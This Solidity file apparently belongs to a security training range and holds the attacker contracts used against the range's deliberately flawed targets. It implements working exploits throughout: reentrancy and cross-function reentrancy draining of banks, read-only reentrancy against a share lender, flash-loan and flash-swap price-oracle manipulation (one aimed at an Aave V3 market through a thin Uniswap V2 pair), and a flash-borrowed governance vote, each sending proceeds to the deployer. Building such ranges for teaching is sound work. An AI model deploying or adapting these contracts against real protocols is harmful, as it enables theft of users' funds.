// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";
import {CrossBank, VulnerableBank} from "./Bank.sol";
import {SpotLending} from "./Lending.sol";
import {NaiveGovernance} from "./NaiveGovernance.sol";
import {FlashBorrower, IAave, IPair, IVault, IWrappedEther, PairTrader} from "./Protocols.sol";
import {ShareLender, SharePool} from "./Shares.sol";

/// What the range's attackers deploy against contracts. Each exploits one named fault of the range's own targets.

/// An attacker's contract: what it takes goes to the account that created it.
abstract contract Owned {
    using SafeERC20 for IERC20;

    address payable internal immutable owner = payable(msg.sender);

    function _takeHome(IERC20 token) internal {
        token.safeTransfer(owner, token.balanceOf(address(this)));
    }

    function _takeEtherHome() internal {
        Address.sendValue(owner, address(this).balance);
    }
}

/// Withdraws from a VulnerableBank again and again while the first withdrawal is being paid.
contract ReentrancyAttacker is Owned {
    VulnerableBank private immutable bank;

    constructor(VulnerableBank bank_) {
        bank = bank_;
    }

    receive() external payable {
        if (msg.sender == address(bank) && address(bank).balance >= msg.value) {
            bank.withdraw();
        }
    }

    /// The ether sent along is the stake; the bank is drained in portions of it.
    function run() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
        _takeEtherHome();
    }
}

/// One of the two depositors of a CrossFunctionAttacker: passes its balance on while it is being paid out.
contract CrossFunctionDepositor is Owned {
    CrossBank private immutable bank;
    address private partner;

    constructor(CrossBank bank_) {
        bank = bank_;
    }

    receive() external payable {
        bank.transfer(partner, msg.value);
    }

    function withdraw(address partner_) external {
        partner = partner_;
        bank.withdraw();
        _takeEtherHome();
    }
}

/// Has one deposit in a CrossBank paid out many times: two depositors take turns, each passing the balance on.
contract CrossFunctionAttacker is Owned {
    CrossBank private immutable bank;
    CrossFunctionDepositor[2] private depositors;

    constructor(CrossBank bank_) {
        bank = bank_;
        depositors = [new CrossFunctionDepositor(bank_), new CrossFunctionDepositor(bank_)];
    }

    receive() external payable {}

    /// Takes the ether sent along out `times` times; the first gives back the stake.
    function run(uint256 times) external payable {
        bank.deposit{value: msg.value}();
        bank.transfer(address(depositors[0]), msg.value);
        for (uint256 i; i < times; i++) {
            depositors[i % 2].withdraw(address(depositors[(i + 1) % 2]));
        }
        _takeEtherHome();
    }
}

/// Borrows from a ShareLender while a withdrawal from its SharePool makes the price of a share absurd.
contract ReadOnlyAttacker is Owned, FlashBorrower {
    using SafeERC20 for IERC20;

    SharePool private immutable pool;
    ShareLender private immutable lender;
    IWrappedEther private immutable wrappedEther;
    uint256 private pledge;

    constructor(IVault vault_, IWrappedEther wrappedEther_, SharePool pool_, ShareLender lender_)
        FlashBorrower(vault_)
    {
        wrappedEther = wrappedEther_;
        pool = pool_;
        lender = lender_;
    }

    receive() external payable {
        if (msg.sender == address(pool)) {
            _borrowAll();
        }
    }

    /// Flash-borrows `loan` wrapped ether; `pledge_` shares of those bought become the collateral and stay behind.
    function run(uint256 loan, uint256 pledge_) external {
        pledge = pledge_;
        _borrow(wrappedEther, loan, "");
        _takeHome(wrappedEther);
    }

    function _withLoan(IERC20, uint256 amount, bytes calldata) internal override {
        wrappedEther.withdraw(amount);
        uint256 shares = pool.deposit{value: amount}();
        IERC20(address(pool)).forceApprove(address(lender), pledge);
        pool.withdraw(shares - pledge);
        wrappedEther.deposit{value: address(this).balance}();
    }

    function _borrowAll() private {
        lender.supply(pledge);
        uint256 limit = pledge * lender.price() / 1e18 * lender.BORROW_PERCENT() / 100;
        uint256 available = wrappedEther.balanceOf(address(lender));
        lender.borrow(limit < available ? limit : available);
    }
}

/// Flash-swaps on one Uniswap V2 pair, raises the price of a thin one that a SpotLending reads, and borrows all it has.
contract FlashSwapOracleAttacker is Owned, PairTrader {
    using SafeERC20 for IERC20;

    SpotLending private immutable market;
    IERC20 private immutable collateral;
    IERC20 private immutable debt;
    IPair private immutable lender;

    error OnlyLender();

    /// `lender_` is the pair whose debt tokens are borrowed; it must not be the one that the market reads.
    constructor(IPair lender_, SpotLending market_) {
        lender = lender_;
        market = market_;
        collateral = market_.collateral();
        debt = market_.debt();
    }

    function run(uint256 loan) external {
        bool isFirst = lender.token0() == address(debt);
        lender.swap(isFirst ? loan : 0, isFirst ? 0 : loan, address(this), abi.encode(loan));
        _takeHome(debt);
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata data) external {
        require(msg.sender == address(lender), OnlyLender());
        uint256 loan = abi.decode(data, (uint256));
        _pumpAndBorrow(loan);
        _sell(market.pair(), collateral, collateral.balanceOf(address(this)));
        debt.safeTransfer(address(lender), loan * 1000 / 997 + 1);
    }

    /// A twentieth of what is bought is enough collateral at the raised price; the rest is sold back.
    function _pumpAndBorrow(uint256 loan) private {
        uint256 pledge = _sell(market.pair(), debt, loan) / 20;
        collateral.forceApprove(address(market), pledge);
        market.supply(pledge);
        uint256 limit = pledge * market.price() / 1e18 * market.BORROW_PERCENT() / 100;
        uint256 available = debt.balanceOf(address(market));
        market.borrow(limit < available ? limit : available);
    }
}

/// Flash-borrows from Balancer, raises the price of a thin Uniswap V2 pair that an Aave V3 oracle reads, and borrows.
contract AaveOracleAttacker is Owned, PairTrader, FlashBorrower {
    using SafeERC20 for IERC20;

    IPair private immutable pair;
    IAave private immutable aave;
    IERC20 private immutable collateral;
    IERC20 private immutable debt;

    constructor(IVault vault_, IPair pair_, IAave aave_, IERC20 collateral_, IERC20 debt_) FlashBorrower(vault_) {
        pair = pair_;
        aave = aave_;
        collateral = collateral_;
        debt = debt_;
    }

    /// Flash-borrows `loan` of the debt token and borrows `taken` of it from Aave at the raised price.
    function run(uint256 loan, uint256 taken) external {
        _borrow(debt, loan, abi.encode(taken));
        _takeHome(debt);
    }

    function _withLoan(IERC20, uint256 amount, bytes calldata data) internal override {
        uint256 pledge = _sell(pair, debt, amount) / 20;
        collateral.forceApprove(address(aave), pledge);
        aave.supply(address(collateral), pledge, address(this), 0);
        aave.borrow(address(debt), abi.decode(data, (uint256)), 2, 0, address(this));
        _sell(pair, collateral, collateral.balanceOf(address(this)));
    }
}

/// Carries a proposal of a NaiveGovernance with votes that are flash-borrowed from Balancer.
contract GovernanceAttacker is FlashBorrower {
    using SafeERC20 for IERC20;

    NaiveGovernance private immutable governance;

    constructor(IVault vault_, NaiveGovernance governance_) FlashBorrower(vault_) {
        governance = governance_;
    }

    function run(uint256 proposal, uint256 votes) external {
        _borrow(governance.token(), votes, abi.encode(proposal));
    }

    function _withLoan(IERC20 token, uint256 amount, bytes calldata data) internal override {
        uint256 proposal = abi.decode(data, (uint256));
        token.forceApprove(address(governance), amount);
        governance.vote(proposal, amount);
        governance.emergencyCommit(proposal);
        governance.unstake(proposal);
    }
}
